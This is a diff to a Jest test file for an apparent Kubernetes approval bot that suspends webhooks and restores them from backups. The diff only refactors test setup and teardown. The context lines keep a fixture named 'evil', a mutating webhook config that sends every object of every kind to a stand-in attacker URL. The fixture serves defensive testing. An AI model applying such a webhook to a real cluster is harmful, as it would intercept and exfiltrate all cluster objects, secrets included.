@@ -1,9 +1,9 @@
-import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { beforeAll, describe, expect, it } from '@jest/globals';
 import type { KubeObject } from '../../src/cluster/snapshot.js';
 import { neutralizeMrkdwn } from '../../src/text/neutralize-mrkdwn.js';
 import type { StoredProposal } from '../../src/store/proposal-store.js';
 import type { StoredBackup } from '../../src/store/approval-backups.js';
-import { startApprovalBot, type ApprovalBot } from '../support/start-approval-bot.js';
+import { useApprovalBot } from '../support/start-approval-bot.js';
 
 // eslint-disable-next-line @typescript-eslint/no-explicit-any
 type Any = any;
@@ -22,13 +22,12 @@ const webhook = (name: string, uid: string): KubeObject =>
 /** What an attacker would like to create: a mutating webhook that sees every object of every kind. */
 const evil = { apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: { name: 'kyverno-policy' }, webhooks: [{ name: 'grab.evil', clientConfig: { url: 'https://evil.example/grab' }, rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }] }] };
 
-let bot: ApprovalBot;
+const bot = useApprovalBot({ objects: [webhook('kyverno-policy', 'uid-kyverno'), webhook('other-policy', 'uid-other')] });
 let suspendA = '';
 let suspendB = '';
 let undoA = '';
 
 beforeAll(async () => {
-  bot = await startApprovalBot({ objects: [webhook('kyverno-policy', 'uid-kyverno'), webhook('other-policy', 'uid-other')] });
   // Two real suspends through two approvals each: sealed backups in their slots, an undo button each.
   for (const name of ['kyverno-policy', 'other-policy']) {
     const run = await bot.runApproved({ action: 'webhook.suspend', params: { kind: 'Validating', name }, label: `Suspend webhook ${name}`, risk: 'r' });
@@ -39,9 +38,6 @@ beforeAll(async () => {
   const result = await bot.resultMessage(suspendA);
   undoA = (result.body.blocks as Any[]).find((b) => b.type === 'actions').elements[0].value;
 }, 90_000);
-afterAll(async () => {
-  await bot?.stop();
-});
 
 const backupKey = (id: string) => `k8s-health:backup:${id}`;
 const posts = () => bot.kube.writes.filter((w) => w.method === 'POST').length;
